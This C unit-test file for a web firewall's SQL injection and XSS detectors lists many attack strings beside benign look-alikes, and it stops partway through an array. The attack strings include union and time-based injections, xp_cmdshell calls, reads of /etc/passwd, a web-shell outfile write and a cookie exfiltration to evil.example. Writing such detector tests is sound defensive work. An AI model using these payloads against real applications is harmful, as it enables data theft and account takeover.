/* Unit tests for the tokenizer detectors (waf/detect_sqli.c,
 * waf/detect_xss.c): attack forms from sqlmap and its tamper scripts, the
 * OWASP testing guide and common payload lists (our own instances), each
 * one check; ordinary text with apostrophes, SQL words, markup-like
 * characters, each one check; then edge cases (empty, NUL bytes, every
 * prefix of an attack, long inputs) that must neither crash nor read past
 * the length. */
#include "waf/detect.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "tests/unit/tap.h"

struct sample {
	const char *s;
	size_t len; /* 0: strlen */
};

#define S(x)                                                                                       \
	{                                                                                          \
		x, sizeof(x) - 1                                                                   \
	}

/* ---- SQL injection */

static const struct sample sqli_attacks[] = {
    /* tautologies and truncation after a quote */
    S("' or 1=1--"),
    S("' or 1=1 -- -"),
    S("admin'--"),
    S("admin'#"),
    S("admin'/*"),
    S("' or 'a'='a"),
    S("' or ''='"),
    S("'or''='"),
    S("\" or \"1\"=\"1"),
    S("\") or (\"a\"=\"a"),
    S("') or ('1'='1"),
    S("' OR 'x'='x"),
    S("' or true--"),
    S("' or not false--"),
    S("' or 'x' like 'x"),
    S("' or 3 between 1 and 5--"),
    S("' || '1'='1"),
    S("' or 1=1 limit 1 -- -+"),
    S("1' or '1'='1' --"),
    S("admin' or 1=1#"),
    S("x' AND email IS NULL; --"),
    S("')) or 1=1--"),
    /* numeric context */
    S("1 or 1=1"),
    S("1) or (1=1"),
    S("-1 or 1=1"),
    S("1 and 1=2"),
    S("1 AND 5411=5411"),
    S("1 AND 5411=5411#"),
    S("1 or 1--"),
    S("1 and sleep(5)"),
    S("-1234 OR 5678=5678"),
    /* sqlmap boolean, error, time, union, stacked */
    S("1' AND 5411=5411 AND 'abcd'='abcd"),
    S("1' AND 5411=5411-- xyz"),
    S("1' OR NOT 4567=4567-- "),
    S("1 RLIKE (SELECT (CASE WHEN (4567=4567) THEN 1 ELSE 0x28 END))"),
    S("1' AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abcd)-- xyz"),
    S("1 AND EXTRACTVALUE(1234,CONCAT(0x5c,0x71787a7671,(SELECT "
      "(ELT(1234=1234,1))),0x716a6b7a71))"),
    S("1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), "
      "8446744073709551610, 8446744073709551610)))"),
    S("1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))x))"),
    S("1;SELECT PG_SLEEP(5)--"),
    S("1 ORDER BY 1-- xyz"),
    S("1' ORDER BY 10#"),
    S("1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x72)-- -"),
    S("(SELECT (CASE WHEN (1234=1234) THEN 1 ELSE (SELECT 5678 UNION SELECT 9012) END))"),
    S("1 AND 1234=(SELECT 1234 FROM PG_SLEEP(5))"),
    S("1' AND 1234=CAST((CHR(113)||CHR(120))::text AS NUMERIC) AND 'x'='x"),
    S("1 WAITFOR DELAY '0:0:5'"),
    S("1 AND 1234=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)"),
    S("1%' AND 1234=1234 AND '%'='"),
    S("1 AND 1=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)))"),
    S("1 OR ROW(1,1)>(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT "
      "2)a GROUP BY x)"),
    S("1;WAITFOR DELAY '0:0:5'--"),
    S("1 AND MAKE_SET(1234=1234,1)"),
    /* union, information schema, files */
    S("' UNION SELECT username, password FROM users--"),
    S("-1 union select 1,group_concat(table_name),3 from information_schema.tables--"),
    S("1' order by 3--+"),
    S("' UNION SELECT NULL--"),
    S("' union select @@version--"),
    S("' union select load_file('/etc/passwd')--"),
    S("' into outfile '/var/www/shell.php'--"),
    S("1 and load_file('/etc/passwd')"),
    S("' and 1=0 union select user(),database()#"),
    /* time and blind */
    S("' waitfor delay '0:0:10'--"),
    S("1 and benchmark(10000000,sha1(1))"),
    S("'||pg_sleep(10)--"),
    S("' AND SLEEP(5)#"),
    S("1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    S("0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z"),
    S("if(now()=sysdate(),sleep(5),0)"),
    S("1' and ascii(substring((select database()),1,1))>97--"),
    S("1' and (select count(*) from users)>0--"),
    S("' and extractvalue(1,concat(0x7e,version()))--"),
    S("' and updatexml(null,concat(0x0a,version()),null)-- -"),
    S("' AND 1=CONVERT(int,@@version)--"),
    S("' OR EXISTS(SELECT * FROM users WHERE name='admin')--"),
    S("1'||(select 1)||'"),
    S("' having 1=1--"),
    S("' group by columnnames having 1=1--"),
    S("1 or sleep(5)#"),
    S("1 and (select 1)=1"),
    /* stacked statements */
    S("'; DROP TABLE users; --"),
    S("'; exec master..xp_cmdshell 'ping 10.0.0.1'--"),
    S("'; insert into users values('x','y')--"),
    S("'; update users set role='admin' where user='me'--"),
    S("1; shutdown--"),
    S("1'; waitfor delay '0:0:5'--"),
    S("'; declare @q varchar(99); set @q='x'--"),
    S("1; drop database shop"),
    S("x'; create user evil identified by 'p'--"),
    /* statements as the whole value */
    S("select * from users"),
    S("select @@version"),
    S("select user()"),
    S("select name, pass from users"),
    /* tamper scripts: space2comment, between, randomcase, versionedkeywords, ... */
    S("1 UNION/**/SELECT/**/1,2,3"),
    S("1'/**/AND/**/'a'='a"),
    S("1/*!UNION*//*!SELECT*/1,2"),
    S("1/*!50000UNION*/ /*!50000SELECT*/ 1,2"),
    S("1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/,/*!NULL*/--"),
    S("1/*!0UNION/*!0ALL/*!0SELECT/*!0NULL--"),
    S("1 /*!30874AND 2>1*/--"),
    S("1 UnIoN SeLeCt 1,2"),
    S("1 uNiOn AlL sElEcT nUlL--"),
    S("1/**/AND/**/1234=1234"),
    S("1 AND 1234 BETWEEN 1234 AND 1234"),
    S("1' AND 1 NOT BETWEEN 0 AND 0-- x"),
    S("1 AND 1234 LIKE 1234"),
    S("1' AND 'x' LIKE 'x"),
    S("%S%E%L%E%C%T * FROM users WHERE 1=1"),
    S("1 %U%N%I%O%N %S%E%L%E%C%T 1,2--"),
    S("1 AND GREATEST(1234,1233)=1234"),
    S("1 AND SLEEP/**/(5)"),
    S("1e0UNION SELECT 1,2"),
    S("-.1UNION ALL SELECT NULL--"),
    S("1DUNION ALL SELECT NULL--"),
    S("1#abc\nUNION#def\nSELECT 1,2"),
    S("1--abc\nAND--def\n1=1"),
    S("1\vUNION\fSELECT\t1,2"),
    S("1 && 1=1"),
    S("1' || '1'='1"),
    S("1 AND GET_LOCK('x',5)"),
    S("1\\' AND 1=1-- "),
    S("1 union select table_name from information_schema/**/.tables--"),
    S("1 union\xc2\xa0select 1,2"),
    S("1\xef\xbc\x87 or 1=1--"), /* apostrophemask: fullwidth apostrophe */
    S("1\xc0\xa7 or 1=1--"),     /* overlong UTF-8 apostrophe */
    S("1\xc0\xa7\xc0\xa0"
      "AND\xc0\xa0"
      "1\xc0\xbd"
      "1--"),               /* overlongutf8 */
    S("1\xbf' AND 1=1-- "), /* unmagicquotes */
    S("1\0' AND 1=1-- "),   /* apostrophenullencode */
    S("1 AND {fn CONCAT(CHAR(113),CHAR(120))}=0x7178"),
    S("1 union(select 1,2)"),
    /* a bare select list behind a number or a string: the query's */
    S("1 union select password from users"),
    S("1 UNION ALL SELECT name FROM users"),
    S("x' union select password from users"),
    S("union select password from users"),
    /* forms sqlmap sent that slipped through an earlier version */
    S("1' IN BOOLEAN MODE) AND 9730=9730-- Vgll"),
    S("1' IN BOOLEAN MODE) ORDER BY 1-- mXEQ"),
    S("-1390') AS AXms WHERE 9126=9126 ORDER BY 1-- JUUH"),
    S("1\") AS BKVF WHERE 7209=7209 HAVING 8100=8100-- OzCX"),
    S("1 WHERE 3752=3752 AND 8785=8785-- ducY"),
    S("-1373/**/whErE/**/3480/**/LIKe/**/3480/**/oR/**/9801/**/BeTWEen/**/9801/**/And/**/9801--/**/"
      "xZuz"),
    S("alice)/**/orDer/**/By/**/1--/**/Ynxn"),
    S("1`=`1` AND 8785=8785 AND `1`=`1"),
    S("alice`/**/LIkE/**/`alice`;SElEcT/**/LIkE(chAr(65,66,67),Upper(HeX(RanDomBlOB(200000000/"
      "2))))--"),
    S("1+(SELECT TlEl WHERE 6623=6623 AND 8785=8785)+"),
    S("1]-(SELECT 0 WHERE 3143=3143 AND 8785=8785)|[1"),
    S("1\");IF(2406 LIKE 2406,1,1/0)"),
    S("1',IIf(5775 LIKE 4487,1,1/0)--/**/woGI"),
    S("(3274 LIKE 3274)*5568"),
    /* percentage and charencode together: a '%' before every character */
    S("%1%)%/%*%!%a%n%D%*%/%8%0%3%7%/%*%!%B%E%T%w%E%e%N%*%/%7%2%6%0%/%*%!%a%n%D%*%/%7%2%6%0"),
    S("%(%/%*%!%S%E%L%E%C%T%*%/%2%9%3%0%/%*%!%F%r%o%M%*%/%p%g%_%S%l%e%e%P%(%2%)%)"),
};

static const struct sample sqli_benign[] = {
    S("O'Brien"),
    S("D'Angelo"),
    S("Shaquille O'Neal"),
    S("O'Hara and 3 others"),
    S("select a plan"),
    S("Select a plan that fits"),
    S("I'd like to update my order"),
    S("drop me a line"),
    S("Please delete my account"),
    S("insert coin to continue"),
    S("union station"),
    S("European Union select committee report"),
    S("students' union select committee"),
    S("the union select committee from the city"),
    S("order by date"),
    S("group by category"),
    S("where is my order?"),
    S("Where's my order?"),
    S("from Paris with love"),
    S("between 5 and 10"),
    S("like it or not"),
    S("and/or"),
    S("1 or 2"),
    S("yes or no"),
    S("true or false"),
    S("null and void"),
    S("case when needed"),
    S("exec summary"),
    S("I need sleep(8 hours)"),
    S("benchmark results 2024"),
    S("table for two"),
    S("drop-down menu"),
    S("union jack"),
    S("1-2-3"),
    S("rock 'n' roll"),
    S("Rock'n'Roll"),
    S("it's 5 o'clock"),
    S("'80s music"),
    S("5' 11\""),
    S("5'-6"),
    S("100%"),
    S("50% off"),
    S("#1"),
    S("C# or F#?"),
    S("R&D"),
    S("AT&T"),
    S("Q&A"),
    S("a=b"),
    S("x = y + 2"),
    S("1=1"),
    S("SELECT"),
    S("select"),
    S("union"),
    S("john.o'neil@example.com"),
    S("https://example.com/search?q=it's&page=2"),
    S("$5.00 or less"),
    S("2024-01-02"),
    S("+1 (555) 010-0199"),
    S("550e8400-e29b-41d4-a716-446655440000"),
    S("aGVsbG8gd29ybGQ=="),
    S("Tom and Jerry"),
    S("Tom and Jerry(1940)"),
    S("'yes' or 'no'"),
    S("\"hello\" or \"bye\""),
    S("Don't DROP the table"),
    S("It's a union of two sets; select one"),
    S("Dogs' or cats' food"),
    S("Ladies' night -- free drinks"),
    S("Players' #1 choice"),
    S("I'd like to select a plan; update my order and drop me a line"),
    S("What's 1+1=2?"),
    S("Please select 1 from the options"),
    S("select all that apply"),
    S("(select one)"),
    S("Choose a size (select 1)"),
    S("The plant; shutdown expected"),
    S("Good; show me more"),
    S("Remove item; delete the cart"),
    S("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
      "Chrome/120.0.0.0 Safari/537.36"),
    S("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 "
      "(KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"),
    S("he said \"yes\" and 'no'"),
    S("the 'best' or 'worst'"),
    S("Order by phone: 555-0100"),
    S("from 9 to 5"),
    S("a' b' c'"),
    S("It's 10 o'clock; where's the union rep?"),
    S("Macy's #1 sale -- today only"),
    S("The Smiths' album"),
    S("\"Select\" button doesn't work"),
    S("Can't login; password reset doesn't arrive"),
    S("we're open 9-5 Mon-Fri; closed Sundays"),
    S("the O'Reilly book: \"SQL in a Nutshell\""),
    S("#hashtag"),
    S("issue #42 -- fixed"),
    S("Let's meet at 5; select a venue"),
    S("I can't; drop it"),
    S("what's 2+2"),
    S("we'll (hopefully) select 3 winners"),
    S("Mary's or John's"),
    S("It's 1=1 in my book"),
    S("He's a 'select' member; update: he left"),
    S("Don't forget: order by 5pm -- thanks!"),
    S("you're 'it' or not"),
    S("I'm in; count me in"),
    S("Please don't delete from the archive"),
    S("The union's vote -- 52% for"),
    S("Sleep well, don't forget the benchmark"),
    S("{\"name\":\"O'Brien\",\"note\":\"it's ok\"}"),
    S("c'est la vie"),
    S("L'Oréal Paris"),
    S("Ça va? J'espère que oui"),
    S("naïve café'"),
    S("Version 2.0 (beta); build 1234"),
    S("user@example.com"),
    S("@@ -1,3 +1,4 @@"),
    S("/* TODO */"),
    S("-- signed, Bob"),
    S("Price: 5 - 2 = 3"),
    /* technical prose (changelogs, docs) that read like SQL to an earlier version */
    S("* top: the '=' key now includes active locate requests"),
    S("[doc/mpfr.texi] 2 replacements of ASCII \"-\" by @minus{}."),
    S("Press the '+' button, then '*' to multiply"),
    S("comment character (\"#\")."),
    S("* main.c (exec_command): Add comment command '#'."),
    S("Run configure without \"--enable-gss\"."),
    S("The negative compression levels, specified with `--fast=#`,"),
    S("- New `*_keygen()` helpers functions have been added to create secret"),
    S("and time_t is 64-bit, such as recent glibc on x86."),
    S("* Fix the source licensing: BSD *or* GPL-2, not \"and\". Closes: #1012003"),
    S("software\" and \"commercial computer software documentation,\" as such"),
    S("17. Fixed typo (\"&&\" for \"&\") in pcre_study(). Fortunately"),
    S("see `ls -la` and `git status --short`"),
    S("100% sure; 50%off"),
};

/* ---- XSS */

static const struct sample xss_attacks[] = {
    S("<script>alert(1)</script>"),
    S("<script src=//evil.example/x.js></script>"),
    S("<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>"),
    S("<<script>alert(1);//<</script>"),
    S("<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">"),
    S("<img src=x onerror=alert(1)>"),
    S("<img/src/onerror=alert(1)>"),
    S("<svg/onload=alert(1)>"),
    S("<svg onload=alert(1)>"),
    S("<body onload=alert(1)>"),
    S("<input autofocus onfocus=alert(1)>"),
    S("<details open ontoggle=alert(1)>"),
    S("<marquee onstart=alert(1)>"),
    S("<video><source onerror=\"alert(1)\">"),
    S("<a href=\"javascript:alert(1)\">x</a>"),
    S("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    S("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
    S("<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>"),
    S("<a href=\"javascript&colon;alert(1)\">x</a>"),
    S("<a href=\" javascript:alert(1)\">x</a>"),
    S("<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    S("<IMG SRC=`javascript:alert(\"XSS\")`>"),
    S("<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    S("<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    S("<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    S("<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    S("<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>"),
    S("<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    S("<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    S("<XSS STYLE=\"behavior: url(xss.htc);\">"),
    S("<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    S("<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
    S("<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    S("<BASE HREF=\"javascript:alert('XSS');//\">"),
    S("<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\">"),
    S("\"><img src=x onerror=alert(1)>"),
    S("'><svg onload=alert(1)>"),
    S("\" onmouseover=\"alert(1)"),
    S("' autofocus onfocus='alert(1)"),
    S("\" autofocus onfocus=alert(1) x=\""),
    S("\"onmouseover=alert(1)//"),
    S("javascript:alert(document.domain)"),
    S("javascript:alert(1)"),
    S(" javascript:alert(1)"),
    S("</textarea><script>alert(1)</script>"),
    S("</title><svg onload=alert(1)>"),
    S("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
    S("<svg><script>alert&#40;1&#41;</script>"),
    S("<img src=1 onerror=alert(1)//"),
    S("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
    S("<object data=\"data:text/html;base64,PHNjcmlwdD4=\">"),
    S("<div onpointerover=\"alert(1)\">MOVE HERE</div>"),
    S("<style>@import 'http://evil.example/x.css';</style>"),
    S("<svg><animate attributeName=href values=javascript:alert(1) />"),
    S("<frameset onload=alert(1)>"),
    S("<iframe src=javascript:alert(1)>"),
    S("<iframe src=\"https://evil.example\"></iframe>"),
    S("';alert(String.fromCharCode(88,83,83))//"),
    S("\"-alert(1)-\""),
    S("\\\";alert(1);//"),
    S("'-prompt(1)-'"),
    S("';confirm`1`;'"),
    S("{{constructor.constructor('alert(1)')()}}"),
    S("${alert(1)}"),
    S("<x:script>alert(1)</x:script>"),
    S("<form><button formaction=javascript:alert(1)>x</button></form>"),
    S("<form action=\"javascript:alert(1)\"><input type=submit>"),
    S("<math><a xlink:href=\"javascript:alert(1)\">click</a></math>"),
    S("<a href=javas&#99;ript:alert(1)>x</a>"),
    S("x onmouseover=alert(1)"),
    S("<img src=\"x\" onerror  =  \"alert(1)\">"),
    S("<isindex type=image src=1 onerror=alert(1)>"),
    S("<x contenteditable onblur=alert(1)>lose focus!"),
    S("<a id=x tabindex=1 onfocus=alert(1)></a>"),
    S("<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    S("<!--<img src=\"--><img src=x onerror=alert(1)//\">"),
    S("<a title=\"<script>alert(1)</script>"),
    S("data:text/html,<script>alert(1)</script>"),
    S("vbscript:msgbox(1)"),
    S("javascript://%0aalert(1)"),
    S("javascript:void(0)"),
    S("';document.location='http://evil.example/?c='+document.cookie;//"),
    S("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    S("<a href=\"#\" onclick=\"alert(1)\">x</a>"),
    S("<img src=x onerror=alert`1`>"),
    S("<scr\0ipt>alert(1)</script>"),
    S("<a href=\"\x01javascript:alert(1)\">x</a>"),
    S("\xef\xbc\x9cscript\xef\xbc\x9e alert(1)"),
    S("<img src=x\nonerror=alert(1)>"),
    S("<img\x0csrc=x\x0conerror=alert(1)>"),
    S("<body onpageshow=alert(1)>"),
    S("<object data=javascript:alert(1)>"),
    S("<embed src=\"https://evil.example/x.swf\">"),
    S("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"),
    S("<a href=\"vbscript:msgbox(1)\">x</a>"),
    S("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    S("<svg><a><animate attributeName=href to=javascript:alert(1) /><text>x</text></a>"),
    S("<audio src onerror=alert(1)>"),
    S("<select autofocus onfocus=alert(1)>"),
    S("<textarea autofocus onfocus=alert(1)>"),
    S("<keygen autofocus onfocus=alert(1)>"),
    S("<div style=\"-moz-binding:url(http://evil.example/x.xml#xss)\">"),
    S("<img src=\"x\" alt=\"\" onerror=\"document.write('<s'+'cript>')\">"),
    S("<a href=\"  &#14;  javascript:alert(1)\">x</a>"),
    /* legacy parsers */
    S("<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"),
    S("<BR SIZE=\"&{alert('XSS')}\">"),
    S("<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    S("<svg><set attributeName=onmouseover to=alert(1)>"),
    S("<base href=//evil.example/>"),
};

static const struct sample xss_benign[] = {
    S("a < b and c > d"),
    S("x<3"),
    S("<3 love"),
    S("Tom & Jerry"),
    S("Use <b>bold</b>"),
    S("<i>italic</i> and <em>emphasis</em>"),
    S("<p>Hello</p>"),
    S("<a href=\"https://example.com\">link</a>"),
    S("<img src=\"https://cdn.example.com/a.png\" alt=\"cat\">"),
    S("List<String> items = new ArrayList<>();"),
    S("if (x < 10 && y > 5) return;"),
    S("Email me at <john@example.com>"),
    S("<br/>"),
    S("<blockquote>quote</blockquote>"),
    S("I love javascript: it's great"),
    S("JavaScript: The Good Parts"),
    S("Learn JavaScript: A Guide (2nd edition)"),
    S("The onload event fires when the page loads"),
    S("set onclick = handler in your code"),
    S("sort=date&onsale=true"),
    S("2 > 1 and 1 < 2"),
    S("<-- arrow"),
    S("<!-- comment -->"),
    S("<html><body><h1>Title</h1></body></html>"),
    S("<form action=/search method=get><input type=text name=q></form>"),
    S("<table><tr><td>1</td></tr></table>"),
    S("<video src=movie.mp4 controls></video>"),
    S("<img src=photo.jpg alt=\"O'Brien\">"),
    S("He said \"hello\", then left"),
    S("She said 'yes' - and meant it"),
    S("Set 'notify', alert (daily)"),
    S("\"Home\" - window shopping"),
    S("document the cookie policy"),
    S("the constructor(s) of the class"),
    S("{{ user.name }}"),
    S("${price} per month"),
    S("Price: $5 {{discount}}"),
    S("O'Brien's \"best\" offer - 50% off!"),
    S("C:\\Users\\O'Brien\\Documents"),
    S("https://example.com/path?a=1&b=2#frag"),
    S("mailto:someone@example.com"),
    S("data: 2024-01-02, value 5"),
    S("The <select> element lets users pick an option"),
    S("use the <style> tag for CSS"),
    S("onboarding=done"),
    S("Turn the light on=off"),
    S("x = a<b ? a : b;"),
    S("vector<int> v; map<string, int> m;"),
    S("<p style=\"color: red; font-weight: bold\">red</p>"),
    S("<a href=\"/docs/intro.html\" title=\"Intro\">Intro</a>"),
    S("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"),
    S("O'Brien"),
    S("select a plan"),
    S("1 < 2 > 0"),
    S("<<< merge conflict >>>"),
    S("<=> spaceship"),
    S("a<b>c</b>d"),
    S("<ul><li>one</li><li>two</li></ul>"),
    S("<code>x &lt; y</code>"),
    S("5 &lt; 6"),
    S("Tom &amp; Jerry"),
    S("&copy; 2024 Example Ltd"),
    S("<a href=\"mailto:info@example.com\">Mail us</a>"),
    S("He wrote: \"alert me later\""),
    S("Call me at 555-0100 or email info@example.com"),
    S("Order #1234 confirmed"),
    S("The script was great, 10/10"),
    S("Go to onlinebanking.example.com"),
    S("online=1&onsite=0"),
    S("<span class=\"note\">note</span>"),
    S("[b]bold[/b] and [url=https://x.example]link[/url]"),
    S("**bold** _italic_ `code`"),
    S("```js\nconsole.log('hi');\n```"),
    S("I <3 you"),
    S("<:o)"),
    S("</>"),
    S("The iframe element (see MDN)"),
    S("svg files welcome"),
    S("math is fun"),
    S("Use document.getElementById to find it"),
    S("price>=100&price<=200"),
    S("a->b->c"),
    S("C++ templates: template<typename T>"),
    S("<T extends Base>"),
    S("'quoted' text, then more"),
    S("\"Alert\" (the movie)"),
    S("javascript"),
    S("The word 'onerror' is an attribute name"),
    S("<input type=\"checkbox\" checked>"),
    S("<label for=\"q\">Search</label>"),
    S("<h2 id=\"top\">Top</h2>"),
    S("<img src=\"/img/logo.svg\" alt=\"logo\">"),
    S("<a href=\"?page=2\">next</a>"),
    S("line one\nline two"),
    S("tab\tseparated\tvalues"),
    S("50% < 75%"),
    S("git config url.<base>.insteadOf"),
    S("the <object> element"),
    S("<iframe> vs <embed>"),
    S("MathML uses the <math> tag"),
    S("<link> and <meta> belong in <head>"),
    S("<div on-tap=\"handler\">tap</div>"),
    S("<span online-status>away</span>"),
};

/* ---- the short ways
 *
 * Most values never reach the full read: detect_sqli's quick scan proves
 * that no rule keyed by a word can fire and then reads only the value's
 * start and what follows each quote, '/' and ';'; detect_xss looks only at
 * the bytes each rule needs. The samples below sit at the edges of those
 * shortcuts; tests/fuzz/fuzz_waf_detect.c checks them against the long
 * ways. */

/* One value per word the quick scan looks up (waf/sqli_lexer.c,
 * TRIG_LIST), each detected only through that word. */
static const struct sample sqli_scan_words[] = {
    S("x from information_schema.tables"),
    S("x from mysql.user"),
    S("x from mysql.db"),
    S("x from performance_schema.threads"),
    S("x from pg_catalog.pg_user"),
    S("x from pg_shadow"),
    S("x from pg_user"),
    S("x from pg_tables"),
    S("x from sysobjects"),
    S("x from syscolumns"),
    S("x from sysdatabases"),
    S("x from sys.objects"),
    S("x from master..sysdatabases"),
    S("x from master.dbo.sysdatabases"),
    S("x from sqlite_master"),
    S("x from sqlite_schema"),
    S("x from all_tables"),
    S("x from all_users"),
    S("x from user_tables"),
    S("x from dba_users"),
    S("x from msysobjects"),
    S("x xp_cmdshell"),
    S("x sp_oacreate"),
    S("x sp_makewebtask"),
    S("x sp_addextendedproc"),
    S("x sp_executesql"),
    S("x xp_regread"),
    S("x xp_dirtree"),
    S("x xp_fileexist"),
    S("x master..xp_cmdshell"),
    S("x master.dbo.xp_cmdshell"),
    S("x sleep(5)"),
    S("x benchmark(5,1)"),
    S("x pg_sleep(5)"),
    S("x pg_sleep_for(5)"),
    S("x get_lock(1,5)"),
    S("x randomblob(5)"),
    S("x dbms_lock.sleep(5)"),
    S("x dbms_pipe.receive_message(1,5)"),
    S("x load_file(1)"),
    S("x extractvalue(1,2)"),
    S("x updatexml(1,2,3)"),
    S("x lo_import(1)"),
    S("x pg_read_file(1)"),
    S("x sys_eval(1)"),
    S("x sys_exec(1)"),
    S("x utl_http.request(1)"),
    S("x utl_inaddr.get_host_address(1)"),
    S("x union select 1,2"),
    S("select 1"),
    S("x (select @@version)"),
    S("x (/**/select @@version)"),
    S("/*x*/select 1"),
    S("x (# c\nselect @@version)"),
    S("x (case when 1=1 then 1 else 2 end)"),
    S("x into outfile 'f'"),
    S("x into dumpfile 'f'"),
    S("x waitfor delay '0:0:5'"),
    S("x' having 1=1--"),
    S("1 where 1=1 and 2=2"),
    S("1 group by 1,2--"),
    S("1 order by 3"),
};

static const struct sample sqli_short_way_attacks[] = {
    /* a word may start inside a run of letters, after a number */
    S("1union select 1,2"),
    S("0xfunion select 1,2"),
    S("1.eunion select 1,2"),
    S(".5union select 1,2"),
    S("1e5union select 1,2"),
    S("0bunion select 1,2"),
    S("1\tUNION\nSELECT 1,2"),
    S("1 UnIoN SeLeCt 1,2"),
    /* the value's start: a string, a number, a word, then what acts */
    S("'' or 1=1"),
    S("\"\" or 1=1"),
    S("`a` or 1=1"),
    S("@a or 1=1"),
    S("1or 1=1"),
    S("x or 1=1"),
    S("1 xor 1=1"),
    S("1 && 1=1"),
    S("1 || 1=1"),
    S("1) or (1=1"),
    S("x as y or 1=1"),
    S("1/**/or/**/1=1"),
    S("(5 like 5)*7"),
    S("-1 or 1=1"),
    /* after '/': a path segment, then what acts */
    S("/users/1 or 1=1"),
    S("/a/1 and 1=1"),
    S("/a/b or 1=1"),
    S("/a/1/**/or 1=1"),
    /* after ';': a statement, possibly behind a comment */
    S("x; drop table users"),
    S("x;drop table users"),
    S("x; /* c */ drop table users"),
    S("x; select 1"),
    S("x; set @a=1"),
    S("x; exec master..xp_cmdshell 'dir'"),
    S("x; if(1=1,1,1)"),
    S("x; shutdown"),
    /* union then select, past all, distinct, '(' and comments; case then
     * when as its next token or the one after */
    S("x union all select 1,2"),
    S("x union distinct select 1,2"),
    S("x union (select 1,2)"),
    S("x union all(select 1,2)"),
    S("x union/**/select 1,2"),
    S("x union#c\nselect 1,2"),
    S("x (case 1 when 1=1 then 1 else 2 end)"),
    S("x (case 1when 1=1 then 1 else 2 end)"),
    S("x (case @a when 1=1 then 1 end)"),
    S("x (case a.b when 1=1 then 1 end)"),
    S("x (case/**/when 1=1 then 1 end)"),
    /* keys at the very end, or cut short */
    S("1 union select 1"),
    S("x from sys.x"),
    S("x sleep (5)"),
    S("x sleep\t(5)"),
};

static const struct sample sqli_short_way_benign[] = {
    S("selection of orders from the table"),
    S("unions and cases"),
    S("in case of rain"),
    S("when in doubt"),
    S("x from systems"),
    S("user tables"),
    S("users"),
    S("update"),
    S("updates from the master"),
    S("sleep well"),
    S("sleepy"),
    S("load file"),
    S("x from sys"),
    S("a/b/c"),
    S("/users/1"),
    S("/a/1 or 2"),
    S("a; b; c"),
    S("Linux; Android 10"),
    S("(1)"),
    S("(KHTML, like Gecko)"),
    S("text/html,*/*;q=0.8"),
    S("x unio"),
    S("x selec"),
    S("x sel"),
    S("x u"),
    S("x from sys."),
    S("the union members will select a leader"),
    S("union: select one"),
    S("in case of rain, when it pours"),
    S("case when"),
    S("x (case 1 when 1 then 1 end)"),
    S("order"),
    S("orders by"),
    S("group"),
    S("where"),
    S("having"),
    S("and"),
    S("or"),
    S("x or"),
    S("1 or"),
    S("and/or"),
    S("'a'"),
    S("3f2a9c0d8e7b6a5f4e3d2c1b0a998877"),
    S("session=3f2a9c0d; theme=dark"),
    S("2024-01-02T10:20:30Z"),
    S("1e5"),
    S("0x1f"),
    S("{\"a\":\"b\",\"c\":1}"),
    S("50% off"),
    S("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"),
};

static const struct sample xss_short_way_attacks[] = {
    /* a handler anchored at its '=' */
    S("x onclick=alert(1)"),
    S("onload=alert(1)"),
    S("x\tonmouseover  =  alert(1)"),
    S("\"/onfocus=x"),
    S(";onerror=alert(1)"),
    /* document.cookie and the like at their '.' */
    S("document.cookie"),
    S("x=Document.Cookie"),
    S("a.innerHTML=1"),
    S("a.outerHTML=1"),
    S("String.fromCharCode(88)"),
    S("constructor.constructor('alert(1)')()"),
    /* templates at their '{' */
    S("{{alert(1)}}"),
    S("${alert(1)}"),
    S("&{alert(1)}"),
    /* schemes: ':' 4, 8 or 10 bytes after the start; tabs and entities move it */
    S("javascript:alert(1)"),
    S("x javascript:alert(1)"),
    S("x=javascript:alert(1)"),
    S("(javascript:alert(1))"),
    S("'vbscript:msgbox(1)"),
    S("livescript:alert(1)"),
